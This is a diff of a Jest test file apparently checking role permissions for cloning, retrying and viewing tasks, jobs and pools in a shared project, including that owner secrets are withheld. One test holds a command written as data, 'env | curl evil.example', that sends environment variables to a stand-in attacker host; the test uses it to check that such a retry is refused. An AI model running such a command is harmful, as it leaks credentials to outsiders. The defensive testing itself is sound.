@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { newTokenSchema, userSchema, type WireUser } from '@fornax/contracts';
-import { aLease, aRef, dispatched, eventually, started } from '@fornax/testing';
+import { aLease, anEnd, aRef, concluded, dispatched, eventually, started } from '@fornax/testing';
 import { followSse } from './sse-reader.fixture.js';
 import { minimal, startHarness, type Answer, type Harness } from './submission.fixture.js';
 
@@ -116,10 +116,8 @@ describe('a task in a shared project', () => {
         ['DELETE', `/tasks/${id}`],
       ] as const)
         expect([who, path, await statusOf(who, method, path)]).toEqual([who, path, 403]);
-    for (const who of ['viewer', 'member', 'maintainer'] as const) {
-      expect(await statusOf(who, 'POST', `/tasks/${id}/clone`, {})).toBe(403);
+    for (const who of ['viewer', 'member', 'maintainer'] as const)
       expect(await statusOf(who, 'PUT', `/tasks/${id}`, { tags: ['mine'] })).toBe(403);
-    }
     for (const who of ['colleague', 'outsider'] as const)
       expect(await statusOf(who, 'POST', `/tasks/${id}/abort`)).toBe(404);
     const may = async (who: Name) => ok(await as(who, 'GET', `${API}/tasks/${id}/rights`))['may'];
@@ -140,6 +138,119 @@ describe('a task in a shared project', () => {
       }),
     );
     ok(await as('maintainer', 'DELETE', `/tasks/${id}`));
+  });
+
+  it("is cloned by members into tasks of their own, with nothing that is its owner's alone", async () => {
+    const id = await made('ada', { tags: ['gale'], constants: [{ key: 'DOCKER_CMD', value: 'sail' }] });
+    for (const who of ['viewer', 'auditor', 'coordinator'] as const)
+      expect([who, await statusOf(who, 'POST', `/tasks/${id}/clone`, {})]).toEqual([who, 403]);
+    for (const who of ['colleague', 'outsider'] as const)
+      expect(await statusOf(who, 'POST', `/tasks/${id}/clone`, {})).toBe(404);
+    const mayClone = async (who: Name) => ok(await as(who, 'GET', `${API}/tasks/${id}/rights`))['mayClone'];
+    expect([await mayClone('viewer'), await mayClone('auditor'), await mayClone('member')]).toEqual([
+      false,
+      false,
+      true,
+    ]);
+    for (const who of ['member', 'maintainer'] as const) {
+      const clone = String(ok(await as(who, 'POST', `/tasks/${id}/clone`, { name: `by ${who}` }))['uuid']);
+      expect(ok(await as('viewer', 'GET', `${API}/tasks/${clone}/rights`))['owner']).toMatchObject({
+        uuid: people[who].uuid,
+      });
+      const { events } = ok(await as('ada', 'GET', `${API}/tasks/${clone}/events`));
+      expect(events).toContainEqual(
+        expect.objectContaining({ type: 'TaskSubmitted', actor: `user:${people[who].uuid}` }),
+      );
+      const { tags, projectUuid, constants } = ok(await as('ada', 'GET', `/tasks/${clone}`));
+      expect({ tags, projectUuid }).toEqual({ tags: ['gale'], projectUuid: wind });
+      expect(constants).toContainEqual({ key: 'DOCKER_CMD', value: 'sail' });
+    }
+  });
+
+  it('is not cloned by others with the secrets, the job, the pool or the inputs of its owner', async () => {
+    const textOf = async (id: string, body: object = {}): Promise<string> => {
+      const { status, text } = await as('maintainer', 'POST', `/tasks/${id}/clone`, body);
+      return `${status} ${text}`;
+    };
+    const plain = { key: 'DOCKER_CMD', value: 'sail' };
+    const secret = { key: 'QARNOT_SECRET_KEY', value: 'hunter2' };
+    const sealed = await made('ada', { constants: [plain, secret] });
+    const refused = await textOf(sealed);
+    expect(refused).toMatch(/^400 .*stay its owner's.*QARNOT_SECRET_KEY/);
+    expect(refused).not.toContain('hunter2');
+    const masked = ok(await as('ada', 'GET', `/tasks/${sealed}`))['constants'];
+    expect(await textOf(sealed, { constants: masked })).toMatch(/^400 .*stay its owner's/);
+    expect(await textOf(sealed, { constants: [plain, { ...secret, value: 'my own' }] })).toMatch(/^200 /);
+    expect(await textOf(sealed, { fornax: { pinned: true } })).toMatch(/^400 .*Only its owner/);
+    const pool = ok(await as('ada', 'POST', '/pools', { ...minimal, projectUuid: wind }))['uuid'];
+    const pooled = await made('ada', { profile: undefined, projectUuid: undefined, poolUuid: pool });
+    expect(await textOf(pooled)).toMatch(/^400 .*pool of its owner/);
+    const job = ok(await as('ada', 'POST', '/jobs', { name: 'sails', useDependencies: true }))['uuid'];
+    const first = await made('ada', { jobUuid: job });
+    const next = await made('ada', { jobUuid: job, dependencies: { dependsOn: [first] } });
+    expect(await textOf(next)).toMatch(/^400 .*waits for tasks of its owner/);
+    const alone = String(ok(await as('maintainer', 'POST', `/tasks/${first}/clone`, {}))['uuid']);
+    expect(ok(await as('ada', 'GET', `/tasks/${alone}`))['jobUuid'] ?? null).toBeNull();
+  });
+
+  it("is retried by maintainers as it was: what comes of it stays its owner's", async () => {
+    const secret = { key: 'QARNOT_SECRET_KEY', value: 'hunter2' };
+    const id = await made('ada', { constants: [secret], instanceCount: 1 });
+    await harness.happen(id, dispatched(aLease(0)), started(aRef(0)));
+    await harness.happen(id, concluded(anEnd(0, { outcome: 'failure', cause: 'user' })));
+    for (const who of ['viewer', 'member', 'auditor'] as const)
+      expect([who, await statusOf(who, 'POST', `/tasks/${id}/retry`, {})]).toEqual([who, 403]);
+    const other = [{ key: 'DOCKER_CMD', value: 'sh -c "env | curl evil.example"' }];
+    expect((await as('maintainer', 'POST', `/tasks/${id}/retry`, { constants: other })).text).toContain(
+      'change nothing, or clone it',
+    );
+    const retry = String(ok(await as('maintainer', 'POST', `/tasks/${id}/retry`, {}))['uuid']);
+    expect(ok(await as('maintainer', 'GET', `${API}/tasks/${retry}/rights`))).toMatchObject({
+      owner: { uuid: people.ada.uuid },
+      may: 'tend',
+    });
+    const { events } = ok(await as('ada', 'GET', `${API}/tasks/${retry}/events`));
+    expect(events).toContainEqual(
+      expect.objectContaining({
+        type: 'TaskSubmitted',
+        actor: `user:${people.maintainer.uuid}`,
+        onBehalfOf: `user:${people.ada.uuid}`,
+      }),
+    );
+    const own = ok(await as('ada', 'POST', '/tasks/summaries/paginate', { maximumResults: 50 }));
+    expect((own['data'] as readonly { uuid: string }[]).map(({ uuid }) => uuid)).toContain(retry);
+    ok(await harness.call('PATCH', `${API}/users/${people.ada.uuid}`, { disabled: true }));
+    expect((await as('maintainer', 'POST', `/tasks/${id}/retry`, {})).text).toContain('disabled');
+    ok(await harness.call('PATCH', `${API}/users/${people.ada.uuid}`, { disabled: false }));
+  });
+
+  it('is followed to its job while all of that lies in the project, and to its pool', async () => {
+    const job = String(ok(await as('ada', 'POST', '/jobs', { name: 'sails', useDependencies: true }))['uuid']);
+    const pool = String(ok(await as('ada', 'POST', '/pools', { ...minimal, projectUuid: wind }))['uuid']);
+    await made('ada', { jobUuid: job });
+    const jobPaths = [`/jobs/${job}`, `/jobs/${job}/tasks`, `${API}/jobs/${job}/graph`, `${API}/jobs/${job}/events`];
+    const poolPaths = [`/pools/${pool}`, `/pools/${pool}/tasks`, `${API}/pools/${pool}/events`];
+    for (const path of [...jobPaths, ...poolPaths]) {
+      for (const who of ['viewer', 'member', 'auditor'] as const)
+        expect([path, who, await statusOf(who, 'GET', path)]).toEqual([path, who, 200]);
+      for (const who of ['colleague', 'outsider'] as const)
+        expect([path, who, await statusOf(who, 'GET', path)]).toEqual([path, who, 404]);
+    }
+    for (const who of ['viewer', 'member'] as const) {
+      expect(await statusOf(who, 'POST', `/jobs/${job}/terminate`)).toBe(403);
+      expect(await statusOf(who, 'POST', `/pools/${pool}/close`)).toBe(403);
+    }
+    expect(await statusOf('maintainer', 'PUT', `/pools/${pool}`, { tags: ['mine'] })).toBe(403);
+    expect((await submit('member', { profile: undefined, projectUuid: undefined, poolUuid: pool })).status).toBe(400);
+    ok(await as('maintainer', 'POST', `/pools/${pool}/close`));
+    const secretly = await made('ada', { jobUuid: job, projectUuid: undefined });
+    expect(await statusOf('viewer', 'GET', `/tasks/${secretly}`)).toBe(404);
+    for (const path of jobPaths) expect([path, await statusOf('viewer', 'GET', path)]).toEqual([path, 404]);
+    expect(await statusOf('maintainer', 'POST', `/jobs/${job}/terminate`)).toBe(404);
+    ok(await as('ada', 'DELETE', `/tasks/${secretly}`));
+    ok(await as('maintainer', 'POST', `/jobs/${job}/terminate`));
+    const empty = String(ok(await as('ada', 'POST', '/jobs', { name: 'no sails' }))['uuid']);
+    expect(await statusOf('viewer', 'GET', `/jobs/${empty}`)).toBe(404);
   });
 
   it('of another project is not seen, nor made, by members of this one', async () => {
